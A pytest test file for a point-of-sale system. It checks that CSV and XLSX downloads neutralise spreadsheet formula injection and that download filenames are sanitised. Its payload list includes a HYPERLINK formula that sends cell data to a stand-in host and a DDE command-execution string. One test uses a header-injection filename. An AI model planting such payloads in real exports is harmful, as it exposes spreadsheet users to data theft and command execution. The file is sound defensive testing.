"""No download ever carries a formula. Every product and producer is named like an attack, then every route of
both roles' URL maps is opened as a CSV and as an XLSX: whatever comes back as a download must hold no cell a
spreadsheet would run (CSV: a leading apostrophe; XLSX: text cells), and the names must still read as typed.
The catalog's CSV round trip keeps a name that starts with a formula character."""

import csv
import io
import uuid
from dataclasses import dataclass
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from pos.catalog.csv_io import export_csv, import_csv
from pos.checkout.sales import record_sale
from pos.checkout.shifts import open_shift
from pos.core.clock import local_today
from pos.core.exports import guard_cell, unguard_cell
from pos.core.extensions import db as _db
from pos.inventory.consignment import settle
from pos.inventory.counts import open_count
from pos.inventory.receipts import create_receipt, post_receipt
from pos.inventory.transfers import create_transfer_in, create_transfer_out
from pos.models import (
    ConsignmentSettlement,
    GoodsReceipt,
    Lot,
    Producer,
    Product,
    RemoteProduct,
    Sale,
    Shift,
    StockCount,
    Transfer,
)
from tests.conftest import make_producer, make_product
from tests.test_central_reports import TODAY, _ingest, _sale

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _csv_cells(response) -> list[str]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _check_download(response, where: str) -> bool:
    """Fails on any cell a spreadsheet would run; True when the download holds one of the payloads."""
    if response.mimetype == "text/csv":
        cells = _csv_cells(response)
        for cell in cells:
            assert not (cell[:1] in DANGEROUS_START and not _is_plain_number(cell)), f"{where}: formula cell {cell!r}"
        return any(cell == "'" + payload for cell in cells for payload in PAYLOADS)
    cells = _xlsx_cells(response)
    for cell in cells:
        assert cell.data_type != "f", f"{where}: formula cell {cell.coordinate} {cell.value!r}"
    return any(cell.value == payload and cell.data_type == "s" for cell in cells for payload in PAYLOADS)


def _row_ids() -> dict:
    def newest(column):
        return [_db.session.scalar(select(func.max(column)))]

    return {
        "product_id": newest(Product.id),
        "producer_id": newest(Producer.id),
        "transfer_id": newest(Transfer.id),
        "settlement_id": newest(ConsignmentSettlement.id),
        "count_id": newest(StockCount.id),
        "receipt_id": newest(GoodsReceipt.id),
        "shift_id": newest(Shift.id),
        "sale_uuid": newest(Sale.uuid),
        "number": newest(Sale.number),
        "lookup_code": newest(Sale.lookup_code),
        "lot": newest(Lot.code),
        "code": [(_db.session.scalar(select(func.max(Product.gtin))) or "1").rjust(14, "0")],
        "rest": [(_db.session.scalar(select(func.max(Product.gtin))) or "1").rjust(14, "0")],  # /p/01/<rest>
        "filename": ["x.png"],
        "request_id": [1],  # a VietQR a till showed (none here: a 404)
        "invoice_id": [1],  # an e-invoice (none here: a 404)
    }


def _walk_downloads(app, client) -> dict[str, bool]:
    """endpoint → whether its download held a payload, for every GET route that answers with a CSV or XLSX."""
    ids, found = _row_ids(), {}
    if app.config["POS_ROLE"] == "central":
        ids["product_id"] = [_db.session.scalar(select(func.max(RemoteProduct.id)))] + ids["product_id"]
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        combos = [{}]
        for name, converter in rule._converters.items():
            values = sorted(converter.items) if hasattr(converter, "items") else ids.get(name)
            assert values, f"{rule.rule}: the export walk needs a value to try for <{name}>"
            combos = [dict(combo, **{name: value}) for combo in combos for value in values]
        for values in combos:
            with app.test_request_context():
                path = app.url_for(rule.endpoint, **values)
            for query in (
                "",
                "?format=csv",
                "?format=xlsx",
                "?format=csv&preset=this_year",
                "?format=xlsx&preset=this_year",
            ):
                response = client.get(path + query)
                assert response.status_code < 500, path + query
                if response.mimetype == "text/csv" or response.mimetype.endswith("spreadsheetml.sheet"):
                    kind = "csv" if response.mimetype == "text/csv" else "xlsx"
                    key = f"{rule.endpoint} {kind}"
                    found[key] = _check_download(response, path + query) or found.get(key, False)
    return found


@pytest.fixture
def attacked_showroom(app, users, db):
    """Every product and producer named like an attack, with stock, an expiring lot, sales, a count, transfers
    and a consignment settlement: every list that can be downloaded has rows."""
    manager, cashier = users["manager"], users["cashier"]
    open_shift(cashier, 500_000)
    producers = [make_producer(name=payload) for payload in PAYLOADS[:4]]
    products = [
        make_product(producer, sku=f"ATK-{n}", name_vi=payload, price=10_000, reorder_point=50)
        for n, (producer, payload) in enumerate(zip(producers * 2, PAYLOADS, strict=False))
    ]
    for n, product in enumerate(products):
        receipt = create_receipt(
            product.producer_id,
            [
                {
                    "sku": product.sku,
                    "lot_code": f"L{n}",
                    "quantity": "20",
                    "unit_cost": "0" if n == 0 else "4000",
                    "ownership": "consignment" if n == 0 else "purchased",
                    "commission_rate": "20",
                    "expiry_date": (local_today() + timedelta(days=5)).isoformat(),
                }
            ],
            manager,
        )
        post_receipt(receipt.id, manager)
        record_sale(
            {
                "uuid": str(uuid.uuid4()),
                "lines": [{"product_id": product.id, "quantity": 1}],
                "payments": [{"method": "cash", "amount": 10_000}],
            },
            cashier,
        )
    settle(products[0].producer_id, local_today().isoformat(), local_today().isoformat(), manager)
    record_sale(
        {
            "uuid": str(uuid.uuid4()),
            "lines": [{"product_id": products[0].id, "quantity": 1}],
            "payments": [{"method": "cash", "amount": 10_000}],
        },
        cashier,
    )  # not settled yet: on the statement
    open_count(manager)
    create_transfer_out("HK", [{"sku": "ATK-1", "quantity": "2"}], manager)
    create_transfer_in(
        "HK", "@SUM(A1)", [{"sku": "ATK-2", "lot_code": "T1", "quantity": "1", "unit_cost": "4000"}], manager
    )
    return products


SHOWROOM_EXPORTS = {
    "catalog.export csv",
    "inventory.stock csv",
    "inventory.expiring csv",
    "inventory.low_stock_page csv",
    "inventory.count_sheet csv",
    "inventory.transfers csv",
    "inventory.transfer_detail csv",
    "inventory.consignment csv",
    "inventory.consignment_settlements csv",
    "inventory.settlement_detail csv",
    "inventory.valuation csv",
    "showroom_reports.showroom_day csv",
    *(
        f"{endpoint} xlsx"
        for endpoint in (
            "inventory.stock",
            "inventory.expiring",
            "inventory.low_stock_page",
            "inventory.count_sheet",
            "inventory.transfers",
            "inventory.transfer_detail",
            "inventory.consignment",
            "inventory.consignment_settlements",
            "inventory.settlement_detail",
            "inventory.valuation",
            "showroom_reports.showroom_day",
        )
    ),
}


def test_no_showroom_download_carries_a_formula(app, admin_client, attacked_showroom):
    found = _walk_downloads(app, admin_client)
    assert set(found) >= SHOWROOM_EXPORTS
    assert [endpoint for endpoint, held_payload in found.items() if not held_payload] == []


@dataclass(frozen=True)
class Sheet:
    path: str
    title: str  # in Vietnamese
    columns: tuple  # left to right
    summed: str | None = None  # the column whose total row is checked

    @property
    def formats(self) -> dict:
        return {column[0]: column[2] for column in self.columns if len(column) > 2}


# A column: (header in Vietnamese, in English[, the number format its values must have]).
SKU = ("SKU", "SKU")
PRODUCT = ("Sản phẩm", "Product")
LOT = ("Lô", "Lot")
EXPIRES = ("Hạn dùng", "Expires")
ON_HAND = ("Tồn kho", "On hand", "#,##0")
NUMBER = ("Số", "Number")
UNITS_SOLD = ("Số lượng đã bán", "Units sold")
REVENUE = ("Doanh thu", "Revenue")
COMMISSION = ("Hoa hồng", "Commission")
PAYABLE = ("Phải trả", "Payable", "#,##0")
STOCK = (SKU, PRODUCT, ON_HAND, ("Giá vốn bình quân", "Average cost", "#,##0"), ("Giá trị", "Value", "#,##0"))
STATEMENT = (
    SKU,
    PRODUCT,
    ("Tỷ lệ hoa hồng", "Commission rate", "0.0%"),
    UNITS_SOLD,
    (*REVENUE, "#,##0"),
    (*COMMISSION, "#,##0"),
    PAYABLE,
)
SHOWROOM_XLSX = [
    Sheet("/inventory/", "Tồn kho", STOCK, summed="Giá trị"),
    Sheet(
        "/inventory/expiring?days=30",
        "Lô đã hết hạn và sắp hết hạn",
        (SKU, PRODUCT, LOT, (*EXPIRES, "dd/mm/yyyy"), ON_HAND),
        summed="Tồn kho",
    ),
    Sheet(
        "/inventory/low-stock",
        "Sắp hết hàng",
        (
            SKU,
            PRODUCT,
            ON_HAND,
            ("Mức đặt hàng lại", "Reorder point"),
            ("Bán mỗi ngày (30 ngày)", "Sold per day (30 days)", "#,##0.0"),
            ("Đủ bán (ngày)", "Days left"),
        ),
    ),
    Sheet(
        "/inventory/counts/{count_id}",
        "Phiếu kiểm kê",
        (
            SKU,
            PRODUCT,
            LOT,
            EXPIRES,
            ("Theo sổ sách", "On the books", "#,##0"),
            ("Thực đếm", "Counted"),
            ("Chênh lệch", "Variance"),
            ("Giá trị", "Value"),
        ),
        summed="Theo sổ sách",
    ),
    Sheet(
        "/inventory/consignment/settlements",
        "Các lần đối soát hàng ký gửi",
        (
            NUMBER,
            ("Chủ thể sản xuất", "Producer"),
            ("Từ ngày", "From", "dd/mm/yyyy"),
            ("Đến ngày", "To"),
            UNITS_SOLD,
            REVENUE,
            COMMISSION,
            PAYABLE,
        ),
        summed="Phải trả",
    ),
    Sheet(
        "/inventory/transfers",
        "Chuyển kho giữa các điểm bán",
        (
            NUMBER,
            ("Chiều", "Direction"),
            ("Điểm bán", "Showroom"),
            ("Số phiếu bên gửi", "Their number"),
            ("Trạng thái", "Status"),
            ("Số dòng", "Lines"),
            ("Số lượng", "Units", "#,##0"),
            ("Ngày tạo", "Created", "dd/mm/yyyy hh:mm"),
        ),
        summed="Số lượng",
    ),
    Sheet(
        "/inventory/transfers/{transfer_id}",
        "Phiếu chuyển kho",
        # goods sent out carry no cost of their own: no format for the unit cost
        (SKU, PRODUCT, LOT, EXPIRES, ("Số lượng", "Quantity", "#,##0"), ("Đơn giá nhập", "Unit cost")),
        summed="Số lượng",
    ),
    Sheet("/inventory/consignment?producer_id={producer_id0}", "Đối soát hàng ký gửi", STATEMENT, summed="Phải trả"),
    Sheet("/inventory/consignment/settlements/{settlement_id}", "Đối soát hàng ký gửi", STATEMENT, summed="Phải trả"),
    Sheet("/inventory/valuation", "Giá trị tồn kho theo giá vốn bình quân gia quyền", STOCK, summed="Giá trị"),
    Sheet(
        "/reports/",
        "Bán hàng ngày",
        (
            SKU,
            PRODUCT,
            ("Số sao", "Stars"),
            ("Số lượng", "Units", "#,##0"),
            (*REVENUE, "#,##0"),
            ("Lãi gộp", "Gross profit", "#,##0"),
        ),
        summed="Doanh thu",
    ),
]


def _sheet_rows(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet"), url
    sheet = load_workbook(io.BytesIO(response.data)).active
    return sheet, list(sheet.iter_rows())


@pytest.mark.parametrize("sheet", SHOWROOM_XLSX, ids=lambda sheet: sheet.path)
def test_a_showroom_xlsx_reads_as_a_report_people_can_hand_on(admin_client, attacked_showroom, sheet):
    headers = [column[0] for column in sheet.columns]
    english = [column[1] for column in sheet.columns]
    title, summed, formats = sheet.title, sheet.summed, sheet.formats
    ids = {
        "count_id": _db.session.scalar(select(func.max(StockCount.id))),
        "transfer_id": _db.session.scalar(select(func.min(Transfer.id))),
        "settlement_id": _db.session.scalar(select(func.max(ConsignmentSettlement.id))),
        "producer_id0": attacked_showroom[0].producer_id,
    }
    url = sheet.path.format(**ids)
    joiner = "&" if "?" in url else "?"
    sheet, rows = _sheet_rows(admin_client, f"{url}{joiner}format=xlsx")
    assert rows[0][0].value.startswith(title) and rows[0][0].font.b
    header = next(n for n, row in enumerate(rows) if row[0].value == headers[0] and row[0].font.b)
    block = [row[0].value for row in rows[1:header]]
    assert "Điểm bán: TH" in block or any(line.startswith("Điểm bán: ") and "(TH)" in line for line in block)
    assert any(line.startswith("Thời điểm lập: ") for line in block if line)
    names = [cell.value for cell in rows[header]]
    assert names[: len(headers)] == headers and not any("_" in name for name in names)
    assert sheet.freeze_panes == f"A{header + 2}"  # the header row stays in view
    widths = [sheet.column_dimensions[chr(ord("A") + n)].width for n in range(len(names))]
    assert all(width and width >= 8 for width in widths)
    data = rows[header + 1 :]
    if summed:
        data, totals = data[:-1], data[-1]
        column = names.index(summed)
        assert totals[0].value == "Tổng cộng" and totals[0].font.b
        assert totals[column].value == sum(row[column].value or 0 for row in data) and totals[column].value
    assert data
    for name, number_format in formats.items():
        column = names.index(name)
        assert {row[column].number_format for row in data if row[column].value is not None} == {number_format}
    for name in ("Hạn dùng", "Từ ngày", "Ngày tạo"):
        if name in names:
            assert all(row[names.index(name)].is_date for row in data if row[names.index(name)].value is not None)
    for cell in (cell for row in data for cell in row):  # values in the page's language, never a code
        assert cell.value not in ("out", "in", "posted", "draft", "purchased", "consignment")

    _sheet, rows = _sheet_rows(admin_client, f"{url}{joiner}format=xlsx&lang=en")
    header = next(n for n, row in enumerate(rows) if row[0].value == english[0] and row[0].font.b)
    assert [cell.value for cell in rows[header]][: len(english)] == english
    assert any(str(row[0].value).startswith("Made: ") for row in rows[1:header])
    if summed:
        assert rows[-1][0].value == "Total"

    text = admin_client.get(f"{url}{joiner}format=csv").get_data(as_text=True)
    assert text.startswith("\ufeff" + ",".join(headers[:2]))  # one header row, the same names
    assert "Tổng cộng" not in text  # CSV: the rows only, for machines


@pytest.fixture
def attacked_central(tmp_path):
    from pos.auth.service import create_user
    from pos.central.registry import add_showroom
    from tests.conftest import PASSWORD, login, make_central_app

    app = make_central_app(tmp_path / "central.sqlite3")
    with app.app_context():
        add_showroom("HK", "Điểm bán HK", secret="k" * 40)
        create_user("boss", PASSWORD, "admin")
        sale = _sale("HK", TODAY, [(0, 1, 35_000, 4, 5_000, False), (1, 2, 12_000, 3, None, True)])
        for line, name, producer in zip(sale["lines"], PAYLOADS, reversed(PAYLOADS), strict=False):
            line.update(name_vi=name, producer=producer)
        _ingest([sale])
        for n, payload in enumerate(PAYLOADS[:3]):
            make_product(make_producer(name=payload), sku=f"M-{n}", name_vi=PAYLOADS[-1 - n])
        client = app.test_client()
        login(client, "boss")
        yield app, client
        _db.session.remove()


CENTRAL_EXPORTS = {
    f"{endpoint} {kind}"
    for kind in ("csv", "xlsx")
    for endpoint in ("central.report_overview", "central.report_breakdown", "central.report_product")
} | {"catalog.export csv"}


def test_no_central_download_carries_a_formula(attacked_central):
    app, client = attacked_central
    found = _walk_downloads(app, client)
    assert set(found) >= CENTRAL_EXPORTS
    # the overview's and a product's exports are figures per day: no names in them to defuse
    assert sorted(endpoint for endpoint, held in found.items() if not held) == [
        "central.report_overview csv",
        "central.report_overview xlsx",
        "central.report_product csv",
        "central.report_product xlsx",
    ]


def test_an_xlsx_keeps_the_text_and_numbers_as_they_are(attacked_central):
    _app, client = attacked_central
    cells = _xlsx_cells(client.get("/central/reports/products?preset=today&format=xlsx"))
    by_value = {cell.value: cell for cell in cells}
    assert by_value[PAYLOADS[0]].data_type == "s" and by_value["+cmd|' /C calc'!A0"].data_type == "s"
    assert by_value[35_000].data_type == "n"


@pytest.mark.parametrize(
    "value, guarded",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("'=x", "''=x"),
        ("-Trà", "'-Trà"),
        ("-5000", "-5000"),
        ("+84", "+84"),
        ("-1.5", "-1.5"),
        (-5000, -5000),
        ("Chè", "Chè"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_is_guarded_only_when_a_spreadsheet_would_run_it(value, guarded):
    assert guard_cell(value) == guarded
    if isinstance(value, str):
        assert unguard_cell(guard_cell(value)) == value


def test_the_catalog_round_trip_keeps_names_that_start_like_a_formula(app, db):
    names = ["-Trà", "=x", "'=x", "@Hà Nội", "+84 Chè"]
    for n, name in enumerate(names):
        make_product(make_producer(name=f"{name} HTX"), sku=f"RT-{n}", name_vi=name)
    exported = export_csv()
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [row["name_vi"] for row in rows] == ["'-Trà", "'=x", "''=x", "'@Hà Nội", "'+84 Chè"]
    result = import_csv(exported.encode())
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 0, len(names))
    assert db.session.scalars(select(Product.name_vi).order_by(Product.sku)).all() == names
    assert sorted(db.session.scalars(select(Producer.name))) == sorted(f"{name} HTX" for name in names)


def test_a_download_is_named_from_safe_characters_only(app):
    from pos.core.exports import Column, Report, export

    with app.test_request_context():
        report = Report(
            "T", [Column("name"), Column("units", "count")], [["Chè", 1]], 'product-A"; filename=evil.exe\r\nX: y'
        )
        response = export(report, "xlsx")
    assert response.headers["Content-Disposition"] == "attachment; filename=product-A___filename_evil.exe__X__y.xlsx"
    assert [row for row in load_workbook(io.BytesIO(response.data)).active.values if row[0] == "Chè"]
